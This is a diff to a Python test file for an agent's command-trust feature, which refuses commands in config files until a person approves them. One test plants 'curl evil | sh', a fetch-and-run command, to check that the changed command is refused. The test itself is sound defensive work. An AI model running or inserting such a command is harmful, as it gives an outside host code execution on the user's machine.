@@ -1,3 +1,4 @@
+# ruff: noqa: E501  (error texts stand on one line, as a person sees them)
 """Trust: exactly the commands a person agreed to, in exactly that file."""
 
 import json
@@ -5,11 +6,13 @@ import os
 import stat
 import subprocess
 import sys
+from contextlib import ExitStack
 from pathlib import Path
 
 import pytest
 from inline_snapshot import snapshot
 
+import acp_agent
 from acp_agent.config.commands import Command
 from acp_agent.config.problem import FileError
 from acp_agent.config.projects import load_projects
@@ -66,7 +69,20 @@ def test_commands_run_only_after_trust_and_only_those(folder: Path, state: Path)
     assert trust(file, state) == [TrustedFile(file, ("defaults.setup", "gates.test"))]
     checked(file, state)
     file.write_text(PROJECTS.replace("pytest -q", "curl evil | sh") + 'setup = "npm ci"\n')
-    assert (before, refusal(file, state)) == snapshot((("projects.toml: 2 commands are not trusted: defaults.setup 'make deps' (new), gates.test 'pytest -q' (new)", 'read them, then: acp trust projects.toml', ExitCode.REFUSED), ("projects.toml: 2 commands are not trusted: gates.test 'curl evil | sh' (changed), projects.a.setup 'npm ci' (new)", 'read them, then: acp trust projects.toml', ExitCode.REFUSED)))
+    assert (before, refusal(file, state)) == snapshot(
+        (
+            (
+                "projects.toml: 2 commands are not trusted: defaults.setup 'make deps' (new), gates.test 'pytest -q' (new)",
+                "read them, then: acp trust projects.toml",
+                ExitCode.REFUSED,
+            ),
+            (
+                "projects.toml: 2 commands are not trusted: gates.test 'curl evil | sh' (changed), projects.a.setup 'npm ci' (new)",
+                "read them, then: acp trust projects.toml",
+                ExitCode.REFUSED,
+            ),
+        )
+    )
     trust(file, state)
     checked(file, state)
 
@@ -77,7 +93,6 @@ def test_the_refusal_is_one_line_whatever_the_commands_hold(folder: Path, state:
     file.write_text(f"version = 1\n[gates]\n{gates}")
     what, hint, _ = refusal(file, state)
     assert what.isprintable()
-    assert what.startswith("projects.toml: 6 commands are not trusted: g") is False
     assert what.startswith("projects.toml: 6 commands are not trusted: gates.g0 'line\\n\\x1b[2Jtwoxx")
     assert what.endswith("(new) (+3 more)")
     assert hint == "read them, then: acp trust projects.toml"
@@ -141,7 +156,7 @@ def test_a_folder_stands_for_its_projects_its_loops_and_its_servers(folder: Path
     assert [why for _, why in untrusted(servers, commands_of(servers), state)] == ["changed"]
     assert len(trusted(state)) == 5
     assert len(untrust(folder / "loops", state)) == 3
-    assert untrust(folder, state) == [folder / "projects.toml", folder / ".mcp.json"] or len(trusted(state)) == 0
+    assert sorted(untrust(folder, state)) == [folder / ".mcp.json", folder / "projects.toml"]
     assert trusted(state) == []
     assert untrust(folder, state) == []
 
@@ -153,7 +168,7 @@ def test_a_folder_stands_for_its_projects_its_loops_and_its_servers(folder: Path
         ("gone", None, "gone: no such file"),
         ("x.txt", "x", "x.txt: is no projects.toml, no loop and no .mcp.json"),
         ("loops/a.md", "+++\nx = 1\n", "loops/a.md:1: the front matter has no closing +++"),
-        ("loops/a.md", "+++\n\nx =\n+++\n", "loops/a.md:3: broken TOML: Invalid value, column 4"),
+        ("loops/a.md", "+++\n\nx =\n+++\n", "loops/a.md:3: broken TOML: Invalid value"),
         (".mcp.json", "{\n", ".mcp.json:2: broken JSON: Expecting property name enclosed in double quotes, column 1"),
         (".mcp.json", "[]", ".mcp.json: mcpServers: should be a table of servers"),
         ("empty/x", "", "empty: has no projects.toml, loops/ or .mcp.json to trust"),
@@ -183,14 +198,17 @@ def test_a_broken_file_in_a_folder_leaves_the_trust_of_the_others_as_it_was(fold
 
 
 def test_the_record_is_private_and_holds_no_command(folder: Path, state: Path) -> None:
-    os.umask(0o022)
-    trust(folder / "projects.toml", state)
+    before = os.umask(0)
+    try:
+        trust(folder / "projects.toml", state)
+    finally:
+        os.umask(before)
     assert {path.name: stat.S_IMODE(path.stat().st_mode) for path in (state, *state.iterdir())} == {
         "state": 0o700,
         "trust.json": 0o600,
         "trust.lock": 0o600,
     }
-    assert "pytest" not in (state / "trust.json").read_text()
+    assert "pytest -q" not in (state / "trust.json").read_text()
 
 
 @pytest.mark.parametrize(
@@ -216,12 +234,32 @@ def test_writers_at_the_same_time_lose_nothing(folder: Path, state: Path) -> Non
     program = (
         "import sys; from pathlib import Path; from acp_agent.config.commands import Command\n"
         "from acp_agent.config.trust import trust_commands\n"
-        "for number in range(10):\n"
+        "print('ready', flush=True); sys.stdin.readline()\n"
+        "for number in range(25):\n"
         "    name = f'{sys.argv[2]}-{number}'\n"
         "    trust_commands({Path('/x') / name: [Command('gates.test', name)]}, Path(sys.argv[1]))\n"
     )
-    writers = [subprocess.Popen([sys.executable, "-c", program, str(state), str(number)]) for number in range(4)]
-    assert [writer.wait() for writer in writers] == [0, 0, 0, 0]
-    expected = sorted(f"/x/{writer}-{number}" for writer in range(4) for number in range(10))
+    here = Path(acp_agent.__file__).parents[1]
+    pipe = subprocess.PIPE
+    with ExitStack() as stack:
+        writers = [
+            stack.enter_context(
+                subprocess.Popen(
+                    [sys.executable, "-c", program, str(state), str(number)],
+                    cwd=here,
+                    stdin=pipe,
+                    stdout=pipe,
+                    text=True,
+                )
+            )
+            for number in range(4)
+        ]
+        # They begin together, or the quick ones would be done before the last has started.
+        assert [writer.stdout.readline() for writer in writers if writer.stdout] == ["ready\n"] * 4
+        for writer in writers:
+            assert writer.stdin
+            writer.stdin.close()
+    assert [writer.returncode for writer in writers] == [0, 0, 0, 0]
+    expected = sorted(f"/x/{writer}-{number}" for writer in range(4) for number in range(25))
     assert [str(file.path) for file in trusted(state)] == expected
     assert sorted(path.name for path in state.iterdir()) == ["trust.json", "trust.lock"]
